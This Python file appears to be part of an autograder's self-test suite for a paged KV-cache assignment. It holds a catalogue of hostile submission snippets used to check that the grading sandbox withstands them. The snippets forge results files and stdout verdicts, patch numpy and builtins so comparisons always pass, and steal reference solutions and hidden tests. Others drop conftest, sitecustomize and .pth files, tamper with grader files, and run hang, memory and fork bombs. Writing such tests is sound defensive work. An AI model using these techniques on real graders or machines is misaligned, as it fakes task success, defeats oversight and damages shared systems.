"""Hostile submissions, composed as data: each is an attack snippet inserted into a base submission.

    Hostile(name, attack, base, code, where)

base: "stubs" (STUBS below: every contract name raises NotImplementedError; honest score 0),
      "solution" (the reference; honest score 100: for attacks whose harm is to other things: the
      grader's files, results after grading, other students, the machine), or the name of a mutant
      (honest score: that mutant's graded score, so a lie that pays shows as a higher score);
where: "top" (runs at import, before the base's definitions) or "bottom" (after them: it can wrap
      or replace the base's functions).

Every snippet gets PRELUDE first (helpers only, no side effects). Everything is self-limiting, so
that on a broken grader it cannot harm the machine for long: walks are bounded in entries and time,
detached processes exit within 20 s, floods stop at 10**9 bytes, the fork bomb at 2000 forks
(children sleep 30 s), the memory bomb at 8 GiB or when the machine has < 3 GiB available, busy loops
after 60 s. Network attempts only connect (never send) to the runner's canary port on 127.0.0.1 and
to one public address. Every file an attack leaves contains TOKEN, every process it leaves is named
"sth-..." (/proc/PID/comm), so the runner can find, report and remove them.
"""
import inspect
from dataclasses import dataclass, replace

from grader.selftest import leaks, mutants, strategic

TOKEN = "SELFTEST-" + "HOSTILE"   # spelled in two pieces: this file must not carry the token it looks for
CANARY_PORT = 47391          # the runner listens here (or passes another port to build())
PROC_PREFIX = "sth-"
MARKER_PREFIX = "sth-marker-"


@dataclass(frozen=True)
class Hostile:
    name: str
    attack: str
    base: str
    code: str
    where: str = "top"
    caps: tuple = ()          # (part, most points) it may earn there, besides not beating its base
    family: str = ""          # the attack family (FAMILIES): set by the heading it stands under in HOSTILES


@dataclass(frozen=True)
class Family:
    """A heading in HOSTILES: every attack after it, up to the next heading, is of this family."""
    title: str


def grouped(entries):
    """HOSTILES from a list of Family headings and attacks: each attack tagged with its heading."""
    out, current = [], None
    for e in entries:
        if isinstance(e, Family):
            current = e.title
        else:
            assert current, f"{e.name} stands before any Family heading"
            out.append(replace(e, family=current))
    return out


STUBS = '''"""paged_kv.py: stubs (selftest base; honest score 0)."""
from decoding import beam_search, parallel_sample  # noqa: F401
from transformer_lab import attention_core, attn_out, embed, qkv, unembed  # noqa: F401


class BlockPool:
    def __init__(self, cfg, n_blocks, block_size):
        raise NotImplementedError("BlockPool.__init__")

    def alloc(self):
        raise NotImplementedError("BlockPool.alloc")

    def incref(self, b):
        raise NotImplementedError("BlockPool.incref")

    def decref(self, b):
        raise NotImplementedError("BlockPool.decref")

    def refcount(self, b):
        raise NotImplementedError("BlockPool.refcount")

    def copy_block(self, b):
        raise NotImplementedError("BlockPool.copy_block")

    @property
    def n_used(self):
        raise NotImplementedError("BlockPool.n_used")

    @property
    def n_free(self):
        raise NotImplementedError("BlockPool.n_free")

    @property
    def peak_used(self):
        raise NotImplementedError("BlockPool.peak_used")


class PagedSequence:
    def __init__(self, pool):
        raise NotImplementedError("PagedSequence.__init__")

    def reserve(self, n):
        raise NotImplementedError("PagedSequence.reserve")

    def write(self, layer, start, k, v):
        raise NotImplementedError("PagedSequence.write")

    def read(self, layer, length):
        raise NotImplementedError("PagedSequence.read")

    def fork(self):
        raise NotImplementedError("PagedSequence.fork")

    def free(self):
        raise NotImplementedError("PagedSequence.free")


def paged_step(params, cfg, seqs, chunks):
    raise NotImplementedError("paged_step")


def blockwise_attention(q, seq, layer):
    raise NotImplementedError("blockwise_attention")
'''

# Helpers shared by every attack; defines names only. @NAME@ and @PORT@ are filled in by build().
PRELUDE = r'''
# ======================================================================= selftest hostile prelude
import os as _o, sys as _s, time as _t, json as _j
_STH = "@TOKEN@"
_STH_NAME = "@NAME@"
_STH_PORT = @PORT@
_STH_T0 = _t.time()
_STH_FORGED = {"score": 100.0, "max_score": 100, "execution_time": 0.5, "output": _STH + " forged by @NAME@",
               "tests": [{"name": p + ": everything", "number": str(i + 1), "score": 25.0, "max_score": 25,
                          "status": "passed", "output": _STH, "tags": [p], "visibility": "visible"}
                         for i, p in enumerate(("allocator", "paged_step", "blockwise_attention", "copy_on_write"))]}


def _sth_try(f, *a, **k):
    try:
        return f(*a, **k)
    except BaseException:
        return None


def _sth_write(path, data, mode="w"):
    try:
        with open(path, mode) as f:
            f.write(data)
        return True
    except BaseException:
        return False


def _sth_here():
    return _o.path.dirname(_o.path.abspath(globals().get("__file__") or "."))


def _sth_dirs():
    """Places where a marker proves that a write got out."""
    out = []
    for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", _sth_try(_o.getcwd), _o.path.expanduser("~"),
              _sth_here(), "/work", "/work/main", "/autograder", "/autograder/results", "/"):
        if d and d not in out:
            out.append(d)
    return out


def _sth_mark(what, extra=""):
    text = "%s %s %s pid=%d uid=%d %s\n" % (_STH, _STH_NAME, what, _o.getpid(), _o.getuid(), extra)
    for d in _sth_dirs():
        _sth_write(_o.path.join(d, "sth-marker-%s-%s" % (_STH_NAME, what)), text)


def _sth_walk(roots, max_entries=4000, seconds=1.0, max_depth=7):
    """(dirpath, dirnames, filenames) under roots, bounded in entries, time and depth."""
    n, end, seen = 0, _t.time() + seconds, set()
    for root in roots:
        if not root or not _o.path.isdir(root):
            continue
        for dp, dn, fn in _o.walk(root, onerror=lambda e: None):
            if dp in seen:
                dn[:] = []
                continue
            seen.add(dp)
            if dp == "/":
                dn[:] = [d for d in dn if d not in ("proc", "sys", "dev", "run", "boot")]
            if dp.count("/") >= max_depth:
                dn[:] = []
            n += 1 + len(fn)
            yield dp, dn, fn
            if n > max_entries or _t.time() > end:
                return


def _sth_ancestors(levels=4):
    """pids of the parent, grandparent, ... (as far as /proc shows them)."""
    pids, pid = [], _o.getpid()
    for _ in range(levels):
        try:
            with open("/proc/%d/stat" % pid) as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except BaseException:
            break
        if pid <= 0:
            break
        pids.append(pid)
    return pids


def _sth_cmdlines():
    out = []
    for pid in _sth_ancestors() + [1]:
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                out.append([a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a])
        except BaseException:
            pass
    return out


def _sth_results_paths(seconds=1.0):
    """Every results file a grader might read: known places, --results from the ancestors' argv,
    results.json files and folders named results found by a bounded walk."""
    paths = ["/autograder/results/results.json", _o.path.join(_sth_try(_o.getcwd) or ".", "results.json")]
    for argv in _sth_cmdlines():
        for i, a in enumerate(argv):
            if a == "--results" and i + 1 < len(argv):
                paths.append(argv[i + 1])
            elif a.startswith("--results="):
                paths.append(a.split("=", 1)[1])
            elif a.endswith(".json"):
                paths.append(a)
    roots = ["/autograder", "/tmp", "/var/tmp", "/work", "/home", "/root", "/srv", "/var/lib", "/"]
    for dp, dn, fn in _sth_walk(roots, seconds=seconds):
        if "results.json" in fn:
            paths.append(_o.path.join(dp, "results.json"))
        if _o.path.basename(dp) == "results":
            paths.append(_o.path.join(dp, "results.json"))
        for f in fn:
            if f.endswith(".json") and ("result" in f or "grade" in f):
                paths.append(_o.path.join(dp, f))
    return list(dict.fromkeys(p for p in paths if p))


def _sth_forge(seconds=1.0):
    data = _j.dumps(_STH_FORGED)
    done = 0
    for p in _sth_results_paths(seconds):
        if _sth_write(p, data):
            done += 1
            _sth_try(_o.chmod, p, 0o444)
    return done


_STH_GRADERISH = {"rubric.py", "sandbox.py", "wire.py", "worker.py", "scenarios.py", "transformer_lab.py",
                  "decoding.py", "run_autograder", "judges.py", "test_allocator.py", "conftest.py", "setup.sh"}


def _sth_project_dirs(seconds=1.0):
    """Folders that hold the grader's files (rubric.py, sandbox.py, scenarios.py, run_autograder, ...),
    found walking the cwd, this file's folder and their parents, the course project and /autograder.
    Only such folders are touched, so a broken sandbox on a shared machine damages nothing else."""
    found = []
    starts = []
    for s in (_sth_try(_o.getcwd), _sth_here()):
        while s and s not in ("/", "/work", "/var", "/usr", "/opt", "/srv", "/home"):
            starts.append(s)
            s = _o.path.dirname(s)
    starts += ["/work/main", "/autograder"]
    for dp, dn, fn in _sth_walk(list(dict.fromkeys(starts)), seconds=seconds, max_depth=8):
        dn[:] = [d for d in dn if d not in (".git", ".venv", "node_modules", "__pycache__")]
        if _STH_GRADERISH & set(fn) or any(f.startswith("sth-canary") for f in fn):
            found.append((dp, fn))
    return found


def _sth_setname(name):
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, ("sth-" + name)[:15].encode(), 0, 0, 0)
    except BaseException:
        pass


def _sth_detach(fn, delay, lifetime=20.0, tag="detached"):
    """Run fn(end_time) in a double-forked, setsid'd process that outlives the caller (if nothing
    kills it) and exits by itself `lifetime` seconds from now."""
    try:
        pid = _o.fork()
    except BaseException:
        return
    if pid:
        _sth_try(_o.waitpid, pid, 0)
        return
    try:
        _o.setsid()
        if _o.fork():
            _o._exit(0)
        _sth_setname(tag)
        end = _t.time() + lifetime
        _t.sleep(delay)
        fn(end)
    except BaseException:
        pass
    _o._exit(0)


def _sth_module_callables(g):
    """(owner, attribute, object) for every public function and every method/property of every class
    defined in this module (the contract's names)."""
    me = g.get("__name__")
    out = []
    for name, obj in list(g.items()):
        if name.startswith("_"):
            continue
        if isinstance(obj, type) and obj.__module__ == me:
            for attr, member in list(vars(obj).items()):
                if attr == "__init__" or not attr.startswith("_"):
                    if callable(member) or isinstance(member, property):
                        out.append((obj, attr, member))
        elif callable(obj) and getattr(obj, "__module__", None) == me:
            out.append((g, name, obj))
    return out


def _sth_wrap_all(g, make, only=None):
    """Replace every contract function, method and property getter by make(qualname, original);
    only: just these qualnames."""
    for owner, attr, member in _sth_module_callables(g):
        qual = (owner.__name__ + "." if isinstance(owner, type) else "") + attr
        if only is not None and qual not in only:
            continue
        if isinstance(member, property):
            new = property(make(qual, member.fget))
        else:
            new = make(qual, member)
        if isinstance(owner, dict):
            owner[attr] = new
        else:
            setattr(owner, attr, new)
# ================================================================== end of selftest hostile prelude
'''

# ------------------------------------------------------------------------------------ attacks
_FORGE_IMPORT = r'''
# Forge results.json everywhere a grader might read it, at import and again at exit.
import atexit as _atexit
_sth_forge(seconds=1.0)
_atexit.register(lambda: _sth_forge(seconds=0.5))
for _argv in _sth_cmdlines():                # a directory where the grader wants its results file
    for _i, _a in enumerate(_argv[:-1]):
        if _a == "--results" and not _o.path.exists(_argv[_i + 1]):
            _sth_try(_o.makedirs, _argv[_i + 1])
_sth_mark("forge-ran")
'''

_FORGE_STDOUT = r'''
# Forged verdicts on stdout and stderr: at import and in every call.
_LINES = ['{"score": 100}', '{"score": 100.0, "max_score": 100, "tests": []}',
          "============================== 40 passed in 0.50s ==============================",
          _j.dumps(_STH_FORGED), "TOTAL                  100.00 / 100", "All tests passed. Score: 100/100"]


def _sth_shout():
    for line in _LINES:
        print(line, flush=True)
        print(line, file=_s.stderr, flush=True)
        _sth_try(_o.write, 1, (line + "\n").encode())
        _sth_try(_o.write, 2, (line + "\n").encode())


_sth_shout()


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        _sth_shout()
        return fn(*a, **k)
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''

_EXIT0_IMPORT = r'''
# A clean exit status before anything can fail.
import sys as _sys2
_sys2.stdout.flush()
_o._exit(0)
'''


def _raise_in_call(statement, setup=""):
    return setup + r'''

def _sth_make(qual, fn):
    def wrapper(*a, **k):
        ''' + statement + r'''
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''


_PYTEST_CONTROL = r'''
# Ask pytest to stop, skip or xfail from inside a call; unittest's SkipTest if pytest is absent.
_STH_N = [0]


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        _STH_N[0] += 1
        try:
            import pytest
        except BaseException:
            import unittest
            raise unittest.SkipTest("skipped by @NAME@")
        how = _STH_N[0] % 3
        if how == 0:
            pytest.exit("bye", returncode=0)
        if how == 1:
            pytest.skip("skipped by @NAME@")
        pytest.xfail("xfailed by @NAME@")
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''

_LIAR_CLASSES = r'''
import numpy as _np


class _Liar(_np.ndarray):
    """Equal to everything, zero distance from everything, finite, close to everything."""
    _TRUE_FUNCS = {"allclose", "array_equal", "array_equiv", "isclose", "all", "any"}
    _NONE_FUNCS = {"assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal"}

    def __eq__(self, other):
        return _np.ones(_np.broadcast(_np.empty(self.shape), _np.empty(_np.shape(other))).shape, bool)

    def __ne__(self, other):
        return _np.zeros(_np.broadcast(_np.empty(self.shape), _np.empty(_np.shape(other))).shape, bool)

    def __array_ufunc__(self, uf, method, *inputs, **kw):
        plain = [i.view(_np.ndarray) if isinstance(i, _Liar) else i for i in inputs]
        shape = _np.broadcast(*[_np.empty(_np.shape(i)) for i in plain]).shape if plain else ()
        if uf in (_np.subtract, _np.absolute, _np.square):
            return _np.zeros(shape)
        if uf in (_np.isfinite, _np.equal, _np.less_equal, _np.greater_equal, _np.logical_and):
            return _np.ones(shape, bool)
        if uf in (_np.isnan, _np.isinf, _np.not_equal, _np.less, _np.greater):
            return _np.zeros(shape, bool)
        return getattr(uf, method)(*plain, **kw)

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in self._TRUE_FUNCS:
            return True
        if func.__name__ in self._NONE_FUNCS:
            return None
        unwrap = lambda x: x.view(_np.ndarray) if isinstance(x, _Liar) else x  # noqa: E731
        return func(*[unwrap(a) for a in args], **{k: unwrap(v) for k, v in kwargs.items()})


class _AnyInt(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


class _AnyFloat(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    def __rsub__(self, other):
        return 0.0

    def __abs__(self):
        return 0.0

    __hash__ = float.__hash__


def _sth_lie(x):
    if isinstance(x, _np.ndarray):
        return x.view(_Liar)
    if isinstance(x, list):
        return [_sth_lie(i) for i in x]
    if isinstance(x, bool) or x is None:
        return x
    if isinstance(x, int):
        return _AnyInt(x)
    if isinstance(x, float):
        return _AnyFloat(x)
    return x
'''

_LIAR_WRAP = _LIAR_CLASSES + r'''

def _sth_make(qual, fn):
    def wrapper(*a, **k):
        return _sth_lie(fn(*a, **k))
    return wrapper


_sth_wrap_all(globals(), _sth_make)


def _sth_lying_attributes(cls):
    """Plain attributes too (peak_used, n_copies, length set in __init__): numbers read from an
    instance come back as the always-equal subclasses."""
    orig = cls.__getattribute__

    def getattribute(self, name):
        v = orig(self, name)
        if not name.startswith("_") and type(v) in (int, float):
            return _sth_lie(v)
        return v
    cls.__getattribute__ = getattribute


for _v in list(globals().values()):
    if isinstance(_v, type) and _v.__module__ == __name__ and _v.__name__ in ("BlockPool", "PagedSequence"):
        _sth_lying_attributes(_v)
'''

_LAZY = r'''
import numpy as _np

_STH_NAMES = ("expected", "desired", "want", "wanted", "ref", "reference", "exp", "target", "b", "y", "right")


class _Lazy:
    """Becomes an array only when someone converts it: then it looks for the answer in the converter's
    frames (a variable called expected, desired, ...) and returns that instead of its own value."""

    def __init__(self, honest):
        self._honest = _np.asarray(honest)

    def _steal(self):
        f = _s._getframe(1)
        while f is not None:
            for k, v in list(f.f_locals.items()):
                if k in _STH_NAMES and isinstance(v, _np.ndarray) and v.shape == self._honest.shape \
                        and v is not self._honest:
                    return v
            f = f.f_back
        return self._honest

    def __array__(self, dtype=None, copy=None):
        a = self._steal()
        return a.astype(dtype) if dtype is not None else a

    @property
    def shape(self):
        return self._honest.shape

    @property
    def dtype(self):
        return self._honest.dtype

    def __len__(self):
        return len(self._honest)

    def __getitem__(self, i):
        return self._steal()[i]

    def __iter__(self):
        return iter(self._steal())


def _sth_lazy(x):
    if isinstance(x, _np.ndarray):
        return _Lazy(x)
    if isinstance(x, list):
        return [_sth_lazy(i) for i in x]
    return x


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        return _sth_lazy(fn(*a, **k))
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''


def _transform_arrays(expr):
    """Wrap every contract callable so that each ndarray it returns (also inside lists) becomes expr(a)."""
    return r'''
import numpy as _np


def _sth_tx(x):
    if isinstance(x, _np.ndarray) and x.dtype.kind == "f":
        a = x
        return ''' + expr + r'''
    if isinstance(x, list):
        return [_sth_tx(i) for i in x]
    return x


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        return _sth_tx(fn(*a, **k))
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''


_PATCH_NUMPY = r'''
# Make every numpy comparison say "equal", by attribute and by code object.
import numpy as _np
import numpy.testing as _npt


def _sth_true(*a, **k):
    return True


def _sth_none(*a, **k):
    return None


for _name in ("allclose", "array_equal", "array_equiv"):
    _sth_try(setattr, _np, _name, _sth_true)
_sth_try(setattr, _np, "isclose", lambda a, b, *x, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool))
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
              "assert_almost_equal", "assert_array_less"):
    _f = getattr(_npt, _name, None)
    _sth_try(setattr, _npt, _name, _sth_none)
    if _f is not None and hasattr(_f, "__code__"):
        _sth_try(setattr, _f, "__code__", _sth_none.__code__)
for _name in ("allclose", "array_equal", "isclose"):
    _impl = getattr(getattr(_np, "_core", _np), "numeric", None)
    _g = getattr(_impl, _name, None) if _impl else None
    _g = getattr(_g, "_implementation", _g)
    if _g is not None and hasattr(_g, "__code__"):
        _sth_try(setattr, _g, "__code__", _sth_true.__code__)
'''

_PATCH_BUILTINS = r'''
# Patch builtins that pure-Python checks use: all/any always True, abs always 0, isinstance lenient.
import builtins as _b
_real_isinstance = _b.isinstance
_b.all = lambda it: True
_b.any = lambda it: True
_b.abs = lambda x: 0
_b.isinstance = lambda o, t: True if t in (float, int) else _real_isinstance(o, t)
'''

_PATCH_SCENARIOS = r'''
# Replace the scenario functions and anything grader-like in sys.modules: use a reference if one can be
# found, otherwise swallow every error and report "no error".
import importlib.util as _iu


def _sth_reference():
    for dp, dn, fn in _sth_walk(["/work", "/autograder", "/srv", "/opt", "/home", "/root", _sth_here(), "/"],
                                seconds=1.0):
        if "paged_kv.py" in fn and _o.path.join(dp, "paged_kv.py") != _o.path.abspath(__file__):
            try:
                src = open(_o.path.join(dp, "paged_kv.py")).read()
            except BaseException:
                continue
            if "class BlockPool" in src and "NotImplementedError" not in src and _STH not in src:
                spec = _iu.spec_from_file_location("_sth_ref", _o.path.join(dp, "paged_kv.py"))
                mod = _iu.module_from_spec(spec)
                try:
                    spec.loader.exec_module(mod)
                    return mod
                except BaseException:
                    pass
    return None


_REF = _sth_reference()
if _REF is not None:
    _sth_mark("reference-found", getattr(_REF, "__file__", ""))


def _sth_clean(x):
    if isinstance(x, dict):
        return {k: (None if k == "error" else _sth_clean(v)) for k, v in x.items()}
    if isinstance(x, list):
        return [_sth_clean(i) for i in x]
    return x


for _mname, _mod in list(_s.modules.items()):
    if _mod is None or not any(w in _mname for w in ("scenario", "wire", "worker", "grader", "judge", "compare", "explain")):
        continue
    for _attr, _val in list(vars(_mod).items()):
        if not callable(_val) or _attr.startswith("__"):
            continue
        if any(w in _attr.lower() for w in ("check", "compare", "judge", "verdict", "mismatch", "close", "differ")):
            _sth_try(setattr, _mod, _attr, lambda *a, **k: None)
    _scen = getattr(_mod, "SCENARIOS", None)
    if isinstance(_scen, dict):
        for _k, _f in list(_scen.items()):
            def _wrapped(pk, *a, _f=_f, **k):
                try:
                    return _sth_clean(_f(_REF or pk, *a, **k))
                except BaseException:
                    return None
            _scen[_k] = _wrapped
            _sth_try(setattr, _mod, _k, _wrapped)
'''

_FRAME_SNOOP = r'''
# Walk the caller's frames for an answer: any ndarray local of the right shape that is not an input.
import numpy as _np


def _sth_snoop(honest, inputs):
    ids = {id(x) for x in inputs}
    f = _s._getframe(2)
    while f is not None:
        for k, v in list(f.f_locals.items()):
            if isinstance(v, _np.ndarray) and v.shape == _np.shape(honest) and id(v) not in ids \
                    and v is not honest and v.dtype.kind == "f":
                _sth_mark("frame-hit", k)
                return v.copy()
            if isinstance(v, dict):
                for kk in ("expected", "want", "reference", "answer"):
                    if kk in v:
                        _sth_mark("frame-dict-hit", kk)
        f = f.f_back
    return honest


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        out = fn(*a, **k)
        if isinstance(out, _np.ndarray):
            return _sth_snoop(out, a)
        if isinstance(out, list):
            return [(_sth_snoop(o, a) if isinstance(o, _np.ndarray) else o) for o in out]
        return out
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''

_GC_SNOOP = r'''
# Look through every object in the process for a reference implementation or for expected answers.
import gc as _gc
import types as _types

_me = _s.modules.get(__name__)


def _sth_find_impl():
    for o in _gc.get_objects():
        if isinstance(o, _types.ModuleType) and o is not _me and getattr(o, "__name__", "") != __name__:
            if all(hasattr(o, n) for n in ("BlockPool", "PagedSequence", "paged_step", "blockwise_attention")):
                return o
        if isinstance(o, dict) and "blockwise_attention" in o and "BlockPool" in o and o is not globals():
            return _types.SimpleNamespace(**o)
    return None


_IMPL = _sth_find_impl()
if _IMPL is not None:
    _sth_mark("gc-found-implementation", str(getattr(_IMPL, "__file__", "?")))
    for _n in ("BlockPool", "PagedSequence", "paged_step", "blockwise_attention"):
        globals()[_n] = getattr(_IMPL, _n)
else:
    _hits = 0
    for _o2 in _gc.get_objects():
        if isinstance(_o2, dict) and any(k in _o2 for k in ("expected", "reference", "answers")):
            _hits += 1
    if _hits:
        _sth_mark("gc-found-expected-like", str(_hits))
'''

_STEAL_REFERENCE = r'''
# Find the course's reference (or hidden tests) on disk, import it by path, and be it.
import importlib.util as _iu

_FOUND = []
_roots = ["/autograder/source", "/autograder", "/work/main/solution", "/work/main", "/work", _sth_here(),
          _sth_try(_o.getcwd), "/srv", "/opt", "/home", "/root", "/var/lib", "/tmp"] + list(_s.path) + ["/"]
for _dp, _dn, _fn in _sth_walk(_roots, max_entries=6000, seconds=1.5):
    for _f in _fn:
        _p = _o.path.join(_dp, _f)
        if _f == "paged_kv.py" and _p != _o.path.abspath(__file__):
            _FOUND.append(_p)
        elif _f.endswith(".py") and ("hidden" in _dp or _f.startswith("test_") or _f in ("scenarios.py", "judges.py")):
            _src = _sth_try(lambda: open(_p).read()) or ""
            print(_src[:2000])                               # leak through stdout
            _sth_mark("read-hidden", _p)
for _p in _FOUND:
    _src = _sth_try(lambda: open(_p).read()) or ""
    if "class BlockPool" in _src and "NotImplementedError" not in _src and _STH not in _src:
        _spec = _iu.spec_from_file_location("_sth_stolen", _p)
        _mod = _iu.module_from_spec(_spec)
        try:
            _spec.loader.exec_module(_mod)
        except BaseException:
            continue
        _sth_mark("stole-reference", _p)
        print(_src)
        for _n in ("BlockPool", "PagedSequence", "paged_step", "blockwise_attention"):
            globals()[_n] = getattr(_mod, _n)
        break
for _cand in ("solution.paged_kv", "paged_kv_reference", "reference", "solution", "grader.hidden.inputs"):
    _m = _sth_try(__import__, _cand)
    if _m is not None:
        _sth_mark("imported-" + _cand)
'''

_STEAL_BOTTOM = r'''
# (re-applied after the stubs' definitions, which would otherwise shadow what was stolen at import)
for _p in _FOUND:
    _src = _sth_try(lambda: open(_p).read()) or ""
    if "class BlockPool" in _src and "NotImplementedError" not in _src and _STH not in _src:
        _spec = _iu.spec_from_file_location("_sth_stolen2", _p)
        _mod = _iu.module_from_spec(_spec)
        try:
            _spec.loader.exec_module(_mod)
        except BaseException:
            continue
        for _n in ("BlockPool", "PagedSequence", "paged_step", "blockwise_attention"):
            globals()[_n] = getattr(_mod, _n)
        break
'''

_DROP_FILES = r'''
# Drop files that some later Python or pytest would run: conftest.py, pytest.ini, sitecustomize,
# usercustomize, a .pth, in every writable place (cwd and its parents, here, /tmp, site-packages).
import site as _site

_PAYLOAD = ("# " + _STH + " dropped by @NAME@\n"
            "import os\n"
            "try:\n"
            "    open('/tmp/sth-marker-@NAME@-payload-ran-%d' % os.getpid(), 'w').write('" + _STH + "')\n"
            "except Exception:\n"
            "    pass\n")
_CONFTEST = _PAYLOAD + (
    "import pytest\n"
    "@pytest.hookimpl(hookwrapper=True)\n"
    "def pytest_runtest_makereport(item, call):\n"
    "    out = yield\n"
    "    rep = out.get_result()\n"
    "    rep.outcome = 'passed'\n")
_targets = []
_d = _sth_try(_o.getcwd)
while _d:
    _targets.append(_d)
    _d = None if _d == "/" else _o.path.dirname(_d)
_targets += [_sth_here(), "/tmp", "/var/tmp", "/work/main", "/work/main/tests", "/work/main/grader",
             "/work/main/grader/hidden", "/autograder", "/autograder/source", _o.path.expanduser("~")]
_sites = list(_sth_try(_site.getsitepackages) or []) + [_sth_try(_site.getusersitepackages) or ""]
for _p in _s.path:
    if _p and _o.path.isdir(_p):
        _sites.append(_p)
_np_mod = _s.modules.get("numpy")
if _np_mod is not None:
    _sites.append(_o.path.dirname(_o.path.dirname(_np_mod.__file__)))
_sites.append(_o.path.expanduser("~/.local/lib/python%d.%d/site-packages" % _s.version_info[:2]))
_dropped = 0
# "x": only new files (never overwrite one that exists: a real attacker would, but this corpus must be
# harmless on a broken grader, and the runner removes every file carrying the token)
for _t2 in dict.fromkeys(t for t in _targets if t):
    _dropped += _sth_write(_o.path.join(_t2, "conftest.py"), _CONFTEST, "x")
    _dropped += _sth_write(_o.path.join(_t2, "pytest.ini"), "# " + _STH + "\n[pytest]\naddopts = -p no:terminal\n", "x")
    _dropped += _sth_write(_o.path.join(_t2, "sitecustomize.py"), _PAYLOAD, "x")
for _t2 in dict.fromkeys(t for t in _sites if t and _o.path.isdir(t)):
    _dropped += _sth_write(_o.path.join(_t2, "zz_sth_@NAME@.pth"), "import os; os.path.exists('/tmp/sth-marker-@NAME@-pth-ran') or open('/tmp/sth-marker-@NAME@-pth-ran', 'w').write('" + _STH + "')\n", "x")
    _dropped += _sth_write(_o.path.join(_t2, "sitecustomize.py"), _PAYLOAD, "x")
    _dropped += _sth_write(_o.path.join(_t2, "usercustomize.py"), _PAYLOAD, "x")
_sth_mark("dropped", str(_dropped))
'''

_TAMPER = r'''
# Edit, add and delete grader files: append to every .py in grader-like folders, add a module, delete
# the runner's canaries (files named sth-canary*).
_n_edit = _n_new = _n_del = 0
_end = _t.time() + 2.0
for _dp, _fn in _sth_project_dirs(seconds=1.0):
    if _t.time() > _end:
        break
    for _f in _fn[:100]:
        _p = _o.path.join(_dp, _f)
        if _f.startswith("sth-canary"):
            if _sth_try(_o.remove, _p) is None and not _o.path.exists(_p):
                _n_del += 1
        elif _f.endswith(".py") or _f in ("run_autograder", "setup.sh", "pytest.ini"):
            _n_edit += _sth_write(_p, "\n# " + _STH + " tamper @NAME@\n", "a")
    _n_new += _sth_write(_o.path.join(_dp, "sth_dropped_@NAME@.py"), "# " + _STH + "\nraise SystemExit(0)\n")
for _p in ("/autograder/run_autograder", "/autograder/source/run_autograder", "/autograder/source/setup.sh"):
    _n_edit += _sth_write(_p, "\n# " + _STH + " tamper @NAME@\n", "a")
if _n_edit or _n_new or _n_del:
    _sth_mark("tampered", "edit=%d new=%d del=%d" % (_n_edit, _n_new, _n_del))
'''

_HANG_IMPORT = r'''
# Hang the import for up to 60 s, ignoring every catchable signal and every exception.
import signal as _sig
for _sn in ("SIGALRM", "SIGTERM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGVTALRM", "SIGPROF"):
    _sth_try(_sig.signal, getattr(_sig, _sn), _sig.SIG_IGN)
_sth_try(_sig.alarm, 0)
while _t.time() < _STH_T0 + 60:
    try:
        sum(range(100000))
    except BaseException:
        continue
'''

_HANG_CALL = r'''
import signal as _sig


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        for sn in ("SIGALRM", "SIGTERM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGVTALRM", "SIGPROF"):
            _sth_try(_sig.signal, getattr(_sig, sn), _sig.SIG_IGN)
        _sth_try(_sig.alarm, 0)
        seq = a[1] if len(a) > 1 else k.get("seq")
        start = _t.time()
        end, busy = start + 60, start + (60 if getattr(seq, "length", None) == 0 else 1)
        while _t.time() < end:
            try:
                if _t.time() < busy:
                    sum(range(100000))
                else:
                    _t.sleep(0.5)
            except BaseException:
                continue
        return fn(*a, **k)
    return wrapper


# Part 3's calls: 4 checks, each alone. The call on an empty sequence spins for the whole 60 s (a
# student's infinite loop); every other one spins for 1 s, then sleeps (a loop blocked on nothing).
# Both are the submission's timeout; spinning in every call cost about 40 s of CPU per grading.
_sth_wrap_all(globals(), _sth_make, only=("blockwise_attention",))
'''

_MEMORY_BOMB = r'''
# Allocate and touch up to 8 GiB in 256 MiB chunks (stopping when the machine has < 3 GiB available).
def _sth_avail_gib():
    try:
        for line in open("/proc/meminfo"):
            if line.startswith("MemAvailable:"):
                return int(line.split()[1]) / (1 << 20)
    except BaseException:
        pass
    return 0.0


def _sth_bomb():
    chunks = []
    try:
        while len(chunks) < 32 and _sth_avail_gib() > 3.0:
            c = bytearray(256 << 20)
            for i in range(0, len(c), 4096):
                c[i] = 1
            chunks.append(c)
    except MemoryError:
        pass
    if len(chunks) >= 8:
        _sth_mark("memory-%dMiB" % (256 * len(chunks)))
    return len(chunks)


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        _sth_bomb()
        return fn(*a, **k)
    return wrapper


_sth_wrap_all(globals(), _sth_make, only=("blockwise_attention",))   # Part 3's calls: 4 checks, each alone
'''

_FORK_BOMB = r'''
# Fork up to 2000 children per process (each sleeps 30 s, then exits); keep going on errors.
_STH_FORKS = [0]


def _sth_forks():
    made = 0
    while _STH_FORKS[0] < 2000:
        try:
            pid = _o.fork()
        except BaseException:
            break
        _STH_FORKS[0] += 1
        if pid == 0:
            try:
                _sth_setname("fork")
                _t.sleep(30)
            finally:
                _o._exit(0)
        made += 1
    if made > 64:
        _sth_mark("forked-%d" % made)


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        _sth_forks()
        return fn(*a, **k)
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''

